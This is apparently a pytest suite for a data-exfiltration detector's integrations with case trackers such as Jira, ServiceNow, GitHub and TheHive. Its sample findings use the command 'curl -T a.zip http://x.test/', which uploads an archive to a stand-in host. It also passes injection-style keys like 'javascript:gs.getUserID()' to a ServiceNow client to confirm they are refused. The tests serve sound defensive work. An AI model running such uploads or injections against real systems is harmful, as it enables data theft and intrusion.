"""Case systems of others, against what their documentation says they answer: the same promises for all of them."""

import asyncio
import re
from collections.abc import Coroutine
from dataclasses import dataclass
from typing import Any, TypeVar

import httpx
import pytest

from exfilwatch.errors import CaseBlocked, CaseError, CaseRefused, CaseUnreachable
from exfilwatch.findings.incident import group
from exfilwatch.findings.store import Store
from exfilwatch_playbooks.cases.body import draft, news
from exfilwatch_playbooks.cases.case import Attachment, Draft, Note
from exfilwatch_playbooks.cases.github import GitHub
from exfilwatch_playbooks.cases.gitlab import GitLab
from exfilwatch_playbooks.cases.opening import open_cases
from exfilwatch_playbooks.cases.servicenow import ServiceNow
from exfilwatch_playbooks.cases.system import Ambiguous, Created, Exists, Tracker
from exfilwatch_playbooks.cases.thehive import TheHive
from exfilwatch_playbooks.hostile import visible

from ..findings.made import make  # noqa: TID252 (tests are no package on the path)
from ..hostile_corpus import CORPUS, LONG  # noqa: TID252
from .fakes import jira
from .fakes.fake import SECRET
from .fakes.kinds import KINDS, Kind, client

T = TypeVar("T")


every = pytest.mark.parametrize("kind", KINDS.values(), ids=list(KINDS))


def made(kind: Kind, **more: Any) -> tuple[Any, Any]:
    """A system and the fake that it talks to."""
    fake = kind.fake()
    return client(kind, fake, **more), fake


def run(what: Coroutine[Any, Any, T]) -> T:
    return asyncio.run(what)


def a_draft(system: Tracker, text: str = "curl -T a.zip http://x.test/", name: str = "a") -> Draft:
    finding = make(name, CommandLine=text)
    (incident,) = group([finding])
    return draft(incident, [finding], renderer=system.renderer)


@every
def test_the_account_is_proven_and_a_wrong_secret_is_a_persons_to_mend(kind):
    system, _ = made(kind)
    assert run(system.probe()).who
    wrong, _ = made(kind, **{kind.wrong: "not-the-right-secret-at-all"})
    with pytest.raises(CaseBlocked):
        run(wrong.probe())


@every
def test_a_case_is_found_by_its_key_with_all_that_was_asked_for(kind):
    system, _ = made(kind)
    wanted = a_draft(system)
    assert run(system.find(wanted.key)) is None
    created = run(system.create(wanted))
    assert isinstance(created, Created)
    for found in (
        run(system.find(wanted.key)),
        run(system.get(created.case_id)),
        run(system.converge(wanted.key, None)),
    ):
        assert found is not None
        assert (found.id, found.incident, found.status, found.level) == (created.case_id, wanted.key, "open", "medium")
        assert found.title == wanted.title
        assert wanted.mark in found.marks
        assert found.url.startswith("https://")
    assert run(system.find("0" * 16)) is None


@every
def test_of_two_cases_with_one_key_the_older_one_goes_on(kind):
    system, _ = made(kind)
    wanted = a_draft(system)
    first, second = run(system.create(wanted)), run(system.create(wanted))
    assert isinstance(first, Created)
    if system.capabilities.unique:
        assert second == Exists(first.case_id)
        return
    assert isinstance(second, Created)
    for _ in range(2):
        assert run(system.converge(wanted.key, second.case_id)).id == first.case_id
        loser = run(system.get(second.case_id))
        assert (loser.status, loser.duplicate_of) == ("duplicate", first.case_id)
    assert run(system.find(wanted.key)).id == first.case_id


@every
def test_a_note_is_added_once_and_may_raise_the_severity(kind):
    system, _ = made(kind)
    created = run(system.create(a_draft(system)))
    later = make("b", 5, CommandLine="curl -T b.zip http://x.test/")
    (incident,) = group([make("a"), later])
    note = news(incident, [make("a")], [later], level="high", renderer=system.renderer)
    assert run(system.add_note(created.case_id, note))
    assert not run(system.add_note(created.case_id, note))
    case = run(system.get(created.case_id))
    assert case.level == "high"
    assert note.key in case.marks
    assert [each.key for each in case.notes] == [note.key]


@every
def test_many_notes_are_all_seen(kind):
    system, _ = made(kind)
    case_id = run(system.create(a_draft(system))).case_id
    for number in range(205 if kind.system in (GitHub, GitLab) else 7):
        run(system.post(run(system.get(case_id)) if number == 0 else _Id(case_id), Note(key=f"n{number}", text="x")))
    case = run(system.get(case_id))
    assert {"n0", "n6"} <= case.marks
    assert len(case.notes) >= 7


@dataclass(frozen=True)
class _Id:
    id: str


@every
def test_a_file_is_added_once_whole(kind):
    system, _ = made(kind)
    case_id = run(system.create(a_draft(system))).case_id
    file = Attachment(stem="evidence", suffix=".jsonl", media="application/x-ndjson", content=b'{"a": "\xff\\u202e"}\n')
    if not system.capabilities.attachments:
        with pytest.raises(CaseBlocked):
            run(system.attach(case_id, file))
        return
    assert run(system.attach(case_id, file))
    assert not run(system.attach(case_id, file))
    assert run(system.attached(case_id)) == {file.name: len(file.content)}


CHECKED = [name for name in KINDS if name not in ("GitHub", "GitLab")]


@pytest.mark.parametrize("name", CHECKED)
def test_a_file_that_became_something_else_of_the_same_size_is_noticed(name):
    system, fake = made(KINDS[name])
    case_id = run(system.create(a_draft(system))).case_id
    fake.dropped.add("content")
    file = Attachment(stem="evidence", suffix=".jsonl", media="application/x-ndjson", content=b'{"a": 1}\n')
    for _ in range(2):
        with pytest.raises(CaseRefused, match=r"was kept as something else in case .* \(SHA-256 [0-9a-f]{64}\)"):
            run(system.attach(case_id, file))


@every
def test_the_text_of_a_case_has_the_checksums_of_its_files(kind, tmp_path):
    system, fake = made(kind)
    store = Store(str(tmp_path / "kept.sqlite"))
    store.save([make("a")])
    (outcome,) = run(open_cases(store, system))
    assert outcome.error is None
    assert outcome.remarks == ()
    sent = b"".join(request.content for request in fake.requests).decode(errors="replace")
    if not system.capabilities.attachments:
        assert "SHA-256" not in sent
        return
    files = run(system.attached(outcome.case.id))
    assert sorted(each.partition("-")[0] for each in files) == ["evidence", "report"]
    told = re.findall(r"\b[0-9a-f]{64}\b", sent)
    assert {each.rpartition("-")[2].partition(".")[0] for each in files} <= {checksum[:12] for checksum in told}


@every
def test_a_case_is_closed_and_opened_again_and_read_back(kind):
    system, fake = made(kind)
    case_id = run(system.create(a_draft(system))).case_id
    assert run(system.set_status(case_id, "closed")).status == "closed"
    assert run(system.set_status(case_id, "closed")).status == "closed"
    assert run(system.set_status(case_id, "open")).status == "open"
    fake.dropped |= {"state", "status"}
    with pytest.raises(CaseRefused):
        run(system.set_status(case_id, "closed"))


@every
def test_a_create_whose_answer_was_lost_is_not_repeated_but_found(kind):
    system, fake = made(kind)
    wanted = a_draft(system)
    fake.lose = 1
    answer = run(system.create(wanted))
    assert isinstance(answer, Ambiguous)
    if isinstance(fake, jira.Jira):
        fake.index()
    assert run(system.find(wanted.key)).incident == wanted.key


@every
def test_an_unknown_case_is_refused(kind):
    system, _ = made(kind)
    with pytest.raises(CaseRefused):
        run(system.get("~999" if kind.system is TheHive else "f" * 32 if kind.system is ServiceNow else "999"))


@every
@pytest.mark.parametrize(
    ("status", "headers", "error", "wait"),
    [
        (429, {"Retry-After": "120"}, CaseUnreachable, 120),
        (503, {"Retry-After": "300"}, CaseUnreachable, 300),
        (403, {}, CaseBlocked, None),
        (302, {"Location": "https://sso.test/login"}, CaseBlocked, None),
        (507, {}, CaseBlocked, None),
    ],
)
def test_a_system_that_is_busy_full_or_closed_is_told_apart(kind, status, headers, error, wait):
    system, fake = made(kind)
    fake.busy = httpx.Response(status, headers=headers, text="<html>maintenance</html>")
    with pytest.raises(error) as raised:
        run(system.find("a" * 16))
    assert getattr(raised.value, "wait", None) == wait
    assert SECRET not in str(raised.value)


@every
def test_a_page_instead_of_an_answer_is_not_taken_for_no_case(kind):
    system, fake = made(kind)
    fake.busy = httpx.Response(200, headers={"Content-Type": "text/html"}, text="<html>Sign in</html>")
    with pytest.raises(CaseError):
        run(system.find("a" * 16))


def of(*names: str) -> Any:
    return pytest.mark.parametrize("kind", [KINDS[name] for name in names], ids=list(names))


@of("GitHub", "GitLab")
def test_labels_that_are_dropped_do_not_hide_a_case(kind):
    system, fake = made(kind)
    fake.dropped.add("labels")
    wanted = a_draft(system)
    created = run(system.create(wanted))
    assert run(system.converge(wanted.key, created.case_id)).id == created.case_id
    assert run(system.find(wanted.key)).id == created.case_id


@of("ServiceNow incident", "DFIR-IRIS")
def test_a_key_that_is_dropped_is_seen_by_reading_back(kind):
    system, fake = made(kind)
    fake.dropped |= {"correlation_id", "case_soc_id"}
    wanted = a_draft(system)
    created = run(system.create(wanted))
    with pytest.raises(CaseBlocked):
        run(system.converge(wanted.key, created.case_id))


@of("Jira Cloud")
def test_jira_finds_at_once_what_this_process_has_made_though_its_search_is_late(kind):
    system, fake = made(kind)
    wanted = a_draft(system)
    created = run(system.create(wanted))
    assert run(system.find(wanted.key)).id == created.case_id
    other, _ = made(kind)
    other._http._transport = fake.transport
    assert run(other.find(wanted.key)) is None
    fake.index()
    assert run(other.find(wanted.key)).id == created.case_id


@of("ServiceNow incident")
def test_servicenow_asks_for_no_key_that_would_be_a_query(kind):
    system, fake = made(kind)
    for key in ("x^ORactive=true", "javascript:gs.getUserID()", "a=b", ""):
        assert run(system.find(key)) is None
    assert fake.requests == []


@of("ServiceNow incident")
def test_servicenow_answers_200_with_an_error(kind):
    system, fake = made(kind)
    error = {"message": "Transaction cancelled: maximum execution time exceeded", "detail": None}
    fake.busy = httpx.Response(200, json={"result": [], "error": error})
    with pytest.raises(CaseUnreachable, match="maximum execution time"):
        run(system.find("a" * 16))


@of("GitHub")
def test_github_says_403_when_it_wants_to_be_left_alone(kind):
    system, fake = made(kind)
    headers = {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1714554600", "Date": "Wed, 01 May 2024 09:00:00 GMT"}
    fake.busy = httpx.Response(403, headers=headers, json={"message": "API rate limit exceeded"})
    with pytest.raises(CaseUnreachable) as raised:
        run(system.find("a" * 16))
    assert raised.value.wait == 600


@every
def test_hostile_text_comes_back_as_it_was_sent(kind):
    system, _ = made(kind)
    texts = [*CORPUS[::100], *list(LONG.values())[::6]]
    for number, text in enumerate(texts):
        finding = make(f"h{number}", CommandLine=text, host=text[:300], user=text[:300], Image=f"C:\\{text[:300]}")
        (incident,) = group([finding])
        wanted = draft(incident, [finding], renderer=system.renderer)
        created = run(system.create(wanted))
        found = run(system.get(created.case_id))
        assert found.incident == wanted.key
        assert wanted.mark in found.marks
        assert found.title == wanted.title
        assert visible(found.body, keep="\n\t") == found.body


@every
def test_an_incident_gets_one_case_and_its_later_findings_a_note(kind, tmp_path):
    system, fake = made(kind)
    store = Store(str(tmp_path / "s.db"))
    store.save([make("a")])
    first = run(_opened(store, system))
    if isinstance(fake, jira.Jira):
        fake.index()
    assert run(_opened(store, system)) == []
    store.save([make("b", 5, branch="archive_then_network")])
    then = run(_opened(store, system))
    assert [each.did for each in (*first, *then)] == ["opened", "extended"]
    assert first[0].case.id == then[0].case.id
    case = run(system.get(first[0].case.id))
    assert case.level == "high"
    assert len([note for note in case.notes if note.key.startswith("findings ")]) == 1


async def _opened(store: Store, system: Tracker) -> list[Any]:
    try:
        return await open_cases(store, system)
    finally:
        await system.close()
